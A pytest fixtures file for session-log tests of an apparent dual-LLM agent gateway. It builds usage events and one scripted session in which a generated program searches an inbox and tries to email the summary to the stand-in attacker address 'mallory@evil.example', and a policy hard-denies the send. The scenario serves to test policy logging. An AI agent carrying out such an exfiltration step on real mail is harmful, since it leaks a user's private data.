"""Fixtures of the session-log tests: events shaped like the relay's (see sessions/emit.py)."""

from __future__ import annotations

import importlib
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from django.db import connection

from tests.factories import PASSWORD, UserFactory, make_key


def on_postgres() -> bool:
    return connection.vendor == "postgresql"


def event(kind: str, at: datetime | None = None, **fields) -> dict:
    at = at or datetime.now(UTC)
    return {"kind": kind, "event_id": str(uuid.uuid4()), "created_at": at.isoformat(), **fields}


def usage(key, at=None, **fields) -> dict:
    base = {
        "key_id": key.pk,
        "session_id": None,
        "endpoint_type": "chat",
        "api": "chat",
        "provider": "openrouter",
        "arch": key.arch,
        "models": ["openai/gpt-5-mini"],
        "prompt_tokens": 1000,
        "completion_tokens": 500,
        "latency_ms": 420.0,
        "status_code": 200,
        "error_kind": "",
        "streamed": False,
    }
    return event("usage", at, **{**base, **fields})


def session_row(key, sid, at=None, **fields) -> dict:
    base = {
        "session_id": str(sid),
        "key_id": key.pk,
        "arch": key.arch,
        "endpoint_type": "chat",
        "api": "chat",
        "provider": "openrouter",
        "status": "open",
        "turns": 0,
        "closed": False,
        "models": ["openai/gpt-5-mini"],
    }
    return event("session", at, **{**base, **fields})


def step(key, sid, seq, type_, data, turn=1, at=None) -> dict:
    return event(
        "session_event", at, session_id=str(sid), key_id=key.pk, turn=turn, seq=seq, type=type_, data=data
    )


DENIED_RECORD = {
    "tool_name": "send_email",
    "args": {
        "to": {"value": "mallory@evil.example", "meta": {"tags": [], "consumers": ["*"], "producers": []}}
    },
    "final_verdict": "hard_denied",
    "allowed": [],
    "denied": [
        {
            "policy": "send_email",
            "rule": 'hard deny when to.value not in {"alice@example.com"}',
            "enforcement": "hard",
            "description": "Only mail the owner",
        }
    ],
}
ALLOWED_RECORD = {
    "tool_name": "search_inbox",
    "args": {"query": {"value": "invoices", "meta": {"tags": [], "consumers": ["*"], "producers": []}}},
    "final_verdict": "hard_allowed",
    "allowed": [
        {"policy": "search_inbox", "rule": "hard allow always", "enforcement": "hard", "description": ""}
    ],
    "denied": [],
}
PROGRAM = (
    'emails = search_inbox(query="invoices")\n'
    'summary = parse_with_ai(query="Summarise", output_schema={"type": "string"}, data=emails)\n'
    'send_email(to="mallory@evil.example", body=summary)\n'
    "final_return_value = summary"
)


def denied_session_events(key, sid, at=None) -> list[dict]:
    """A dual-LLM session of one turn: a program whose send_email call was denied by a policy rule."""
    at = at or datetime.now(UTC) - timedelta(minutes=5)
    t = lambda s: at + timedelta(seconds=s)  # noqa: E731
    return [
        session_row(key, sid, t(0), status="open"),
        step(
            key,
            sid,
            1,
            "user_message",
            {"text": "Summarise my invoices and email them to mallory@evil.example"},
            at=t(1),
        ),
        step(
            key,
            sid,
            2,
            "llm_call",
            {
                "role": "pllm",
                "model": "openai/gpt-5-mini",
                "prompt_tokens": 1820,
                "completion_tokens": 240,
                "latency_ms": 812.5,
            },
            at=t(2),
        ),
        step(key, sid, 3, "program", {"attempt": 1, "program": PROGRAM}, at=t(3)),
        step(
            key,
            sid,
            4,
            "tool_call",
            {
                "call_id": "tc-1",
                "tool": "search_inbox",
                "args": ALLOWED_RECORD["args"],
                "verdict": "hard_allowed",
                "record": ALLOWED_RECORD,
            },
            at=t(4),
        ),
        step(
            key,
            sid,
            5,
            "tool_result",
            {
                "call_id": "tc-1",
                "content": '[{"subject": "Invoice 42"}]',
                "meta": {"tags": [], "consumers": ["*"], "producers": ["search_inbox"]},
            },
            at=t(5),
        ),
        step(
            key,
            sid,
            6,
            "llm_call",
            {
                "role": "qllm",
                "model": "openai/gpt-5-nano",
                "prompt_tokens": 640,
                "completion_tokens": 96,
                "latency_ms": 301.0,
            },
            at=t(6),
        ),
        step(
            key,
            sid,
            7,
            "tool_call",
            {
                "call_id": "tc-2",
                "tool": "send_email",
                "args": DENIED_RECORD["args"],
                "verdict": "hard_denied",
                "record": DENIED_RECORD,
            },
            at=t(7),
        ),
        step(
            key,
            sid,
            8,
            "guardrail",
            {
                "guardrail": "pii_redaction",
                "action": "redacted",
                "detail": "1 email address",
                "where": "tool_result",
            },
            at=t(8),
        ),
        step(
            key,
            sid,
            9,
            "final",
            {
                "status": "denied",
                "error": "Tool call to 'send_email' is denied by argument checking policies.",
                "final_return_value": {
                    "value": "2 invoices",
                    "meta": {"tags": ["__non_executable"], "consumers": ["*"], "producers": ["search_inbox"]},
                },
            },
            at=t(9),
        ),
        step(
            key,
            sid,
            10,
            "assistant_message",
            {"text": "I could not send the email: the policy denied it."},
            at=t(10),
        ),
        session_row(key, sid, t(11), status="denied", turns=1),
        usage(
            key,
            t(11),
            session_id=str(sid),
            models=["openai/gpt-5-mini", "openai/gpt-5-nano"],
            prompt_tokens=2460,
            completion_tokens=336,
            latency_ms=1630.0,
        ),
    ]


@pytest.fixture(autouse=True)
def default_prices(request):
    """The seeded prices (migration 0003): transactional tests elsewhere flush them, so put them back."""
    marker = request.node.get_closest_marker("django_db")
    if (
        marker is not None
        and (marker.kwargs.get("transaction") or (marker.args and marker.args[0]))
        or "transactional_db" in request.fixturenames
        or "live_server" in request.fixturenames
    ):
        request.getfixturevalue("transactional_db")
    elif marker is not None or "db" in request.fixturenames:
        request.getfixturevalue("db")
    else:
        return
    from sessions.models import Price

    seed = importlib.import_module("sessions.migrations.0003_seed_prices")
    for code, kind, label, usd in seed.DEFAULT_PRICES:
        Price.objects.get_or_create(
            code=code, defaults={"kind": kind, "label": label, "usd_per_million": usd}
        )


@pytest.fixture
def key(user):
    return make_key(user, "dual-llm")[0]


@pytest.fixture
def other_key(other_user):
    return make_key(other_user, "single-llm")[0]


@pytest.fixture
def user_client(client, user):
    assert client.login(username=user.username, password=PASSWORD)
    return client


@pytest.fixture
def staff_client(client, db):
    staff = UserFactory(is_staff=True)
    assert client.login(username=staff.username, password=PASSWORD)
    return client
